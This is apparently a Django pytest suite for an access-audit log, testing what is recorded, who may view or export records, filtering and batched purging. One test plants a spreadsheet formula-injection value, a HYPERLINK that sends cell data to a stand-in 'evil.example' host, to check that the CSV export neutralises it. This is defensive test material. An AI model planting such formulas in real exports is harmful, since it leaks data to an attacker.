"""The access audit: each read of a person's data writes one AccessRecord (who, when, what,
from where); owners and admins read their own accounts' records in the console, filtered and
exported; support and viewers never see them; old records go in batches."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import Membership
from audit.models import AccessRecord
from audit.services import access_records_purge
from tests.console.conftest import bounced_email, console_user
from tests.console.test_pages import EXPORT, USER, page_of

AUDIT = "/admin/audit/accessrecord/"
AUDIT_EXPORT = "/admin/audit/accessrecord/export.csv"
BROWSER = {"HTTP_USER_AGENT": "Mozilla/5.0 (ticket 4711)", "REMOTE_ADDR": "203.0.113.9"}


def manager(environment, role=Membership.Role.OWNER, **kwargs):
    """An owner or admin with the Account managers group's right to manage members."""
    user = console_user(environment, role=role, **kwargs)
    user.user_permissions.add(Permission.objects.get(codename="change_membership"))
    return user


def record(environment, *, actor_name="someone", user_id="usr_x", at=None, **fields):
    return AccessRecord.objects.create(
        environment=environment,
        actor_name=actor_name,
        action=fields.pop("action", AccessRecord.Action.NOTIFICATION),
        user_id=user_id,
        at=at or timezone.now(),
        **fields,
    )


@pytest.mark.django_db
def test_opening_a_notification_records_who_what_and_from_where(client, tenants):
    mine, _ = tenants
    notification = bounced_email(mine)
    support = console_user(mine)
    client.force_login(support)
    assert client.get(page_of(notification), **BROWSER).status_code == 200
    [row] = AccessRecord.objects.all()
    assert (row.actor, row.actor_name, row.action) == (support, support.username, "notification")
    assert (row.environment, row.tracking_id, row.user_id) == (mine, notification.id, "usr_alice")
    assert (row.ip, row.user_agent) == ("203.0.113.9", "Mozilla/5.0 (ticket 4711)")
    assert timezone.now() - row.at < timedelta(minutes=1)


@pytest.mark.django_db
def test_the_timeline_an_export_a_reveal_and_a_resend_are_each_recorded(client, tenants):
    mine, _ = tenants
    notification = bounced_email(mine)
    owner = console_user(mine, role=Membership.Role.OWNER)
    client.force_login(owner)
    client.get(USER, {"environment": mine.id, "user": "usr_alice"})
    export = client.get(EXPORT, {"environment": mine.id, "q": "alice@example.com"})
    lines = b"".join(export.streaming_content).decode().splitlines()
    client.post(page_of(notification).replace("change/", "reveal/"))
    client.post(page_of(notification).replace("change/", "resend/"))
    rows = {row.action: row for row in AccessRecord.objects.all()}
    assert set(rows) >= {"timeline", "export", "reveal", "resend"}
    assert rows["timeline"].user_id == "usr_alice"
    assert rows["export"].filters["q"] == "alice@example.com"
    assert rows["export"].row_count == len(lines) - 1 == 1
    assert rows["reveal"].tracking_id == rows["resend"].tracking_id == notification.id


# Transactional: closing the response ends the request, which closes the connection.
@pytest.mark.django_db(transaction=True)
def test_an_export_the_client_abandons_keeps_its_record_with_the_rows_sent(client, tenants):
    mine, _ = tenants
    for _ in range(3):
        bounced_email(mine)
    client.force_login(console_user(mine))
    export = client.get(EXPORT, {"environment": mine.id})
    stream = iter(export.streaming_content)
    next(stream), next(stream)  # the header and one row, then the browser goes away
    [row] = AccessRecord.objects.all()
    assert row.action == "export" and row.row_count is None  # written before the first line
    export.close()
    row.refresh_from_db()
    assert row.row_count == 1


@pytest.mark.django_db
def test_the_search_list_alone_is_not_recorded(client, tenants):
    mine, _ = tenants
    bounced_email(mine)
    client.force_login(console_user(mine))
    client.get("/admin/logs/notification/", {"environment": mine.id})
    assert not AccessRecord.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Membership.Role.OWNER, Membership.Role.ADMIN])
def test_owners_and_admins_read_their_own_accounts_records_only(client, tenants, role):
    mine, theirs = tenants
    record(mine, actor_name="mine-support", user_id="usr_mine")
    record(theirs, actor_name="their-support", user_id="usr_theirs")
    client.force_login(manager(mine, role=role))
    page = client.get(AUDIT)
    body = page.content.decode()
    assert page.status_code == 200
    assert "mine-support" in body and "usr_mine" in body
    assert "their-support" not in body and "usr_theirs" not in body
    exported = b"".join(client.get(AUDIT_EXPORT).streaming_content).decode()
    assert "usr_mine" in exported and "usr_theirs" not in exported
    theirs_id = AccessRecord.objects.get(user_id="usr_theirs").id
    assert client.get(f"{AUDIT}{theirs_id}/change/").status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Membership.Role.SUPPORT, Membership.Role.VIEWER])
def test_support_and_viewers_never_see_the_audit(client, tenants, role):
    mine, _ = tenants
    record(mine, actor_name="mine-support")
    user = console_user(mine, role=role)
    # Even Django permissions on the audit and on members do not open it: the role decides.
    user.user_permissions.add(
        *_audit_permissions(), *Permission.objects.filter(content_type__app_label="accounts")
    )
    client.force_login(user)
    assert client.get(AUDIT).status_code == 403
    assert client.get(AUDIT_EXPORT).status_code == 403
    assert "Access records" not in client.get("/admin/").content.decode()


@pytest.mark.django_db
def test_a_support_member_of_one_account_sees_none_of_it_while_owning_another(client, tenants):
    mine, theirs = tenants
    record(mine, actor_name="in-mine")
    record(theirs, actor_name="in-theirs")
    user = manager(mine, role=Membership.Role.SUPPORT)
    Membership.objects.create(user=user, account=theirs.account, role=Membership.Role.OWNER)
    client.force_login(user)
    body = client.get(AUDIT).content.decode()
    assert "in-theirs" in body and "in-mine" not in body


@pytest.mark.django_db
def test_owners_filter_by_person_user_id_and_time(client, tenants):
    mine, _ = tenants
    now = timezone.now()
    record(mine, actor_name="support-ana", user_id="usr_1", at=now - timedelta(days=40))
    record(mine, actor_name="support-ana", user_id="usr_2", at=now - timedelta(hours=1))
    record(mine, actor_name="support-bo", user_id="usr_1", at=now - timedelta(hours=2))
    client.force_login(manager(mine))

    def users_shown(**params) -> list[str]:
        export = client.get(AUDIT_EXPORT, params)
        rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
        return sorted(f"{row['person']}:{row['user_id']}" for row in rows)

    assert users_shown(person="support-ana") == ["support-ana:usr_1", "support-ana:usr_2"]
    assert users_shown(q="usr_1") == ["support-ana:usr_1", "support-bo:usr_1"]
    since = (now - timedelta(days=7)).isoformat()
    assert users_shown(at__gte=since) == ["support-ana:usr_2", "support-bo:usr_1"]
    assert users_shown(person="support-ana", q="usr_1") == ["support-ana:usr_1"]
    page = client.get(AUDIT, {"person": "support-bo"}).content.decode()
    assert "usr_1" in page and "usr_2" not in page


@pytest.mark.django_db
def test_the_audit_export_writes_formulas_as_text(client, tenants):
    mine, _ = tenants
    record(mine, user_id='=HYPERLINK("https://evil.example/?"&A2,"Click")')
    client.force_login(manager(mine))
    export = b"".join(client.get(AUDIT_EXPORT).streaming_content).decode()
    [row] = list(csv.DictReader(io.StringIO(export)))
    assert row["user_id"].startswith("'=HYPERLINK")


@pytest.mark.django_db
def test_the_purge_deletes_records_past_retention_in_batches(tenants):
    mine, _ = tenants
    now = timezone.now()
    for days in (401, 402, 500, 800, 1000):
        record(mine, at=now - timedelta(days=days))
    kept = record(mine, at=now - timedelta(days=399))
    with CaptureQueriesContext(connection) as queries:
        assert access_records_purge(retention_days=400, batch=2) == 5
    deletes = [q for q in queries.captured_queries if q["sql"].startswith("DELETE")]
    assert len(deletes) == 3  # 2 + 2 + 1 primary keys
    assert list(AccessRecord.objects.all()) == [kept]


def test_audit_retention_defaults_to_400_days_and_outlives_the_logs(settings):
    assert settings.AUDIT_RETENTION_DAYS == 400 >= settings.LOG_RETENTION_DAYS
    schedule = settings.CELERY_BEAT_SCHEDULE["audit-access-records-purge"]
    assert schedule["task"] == "audit.tasks.access_records_purge_task"


def _audit_permissions():
    return Permission.objects.filter(content_type__app_label="audit")
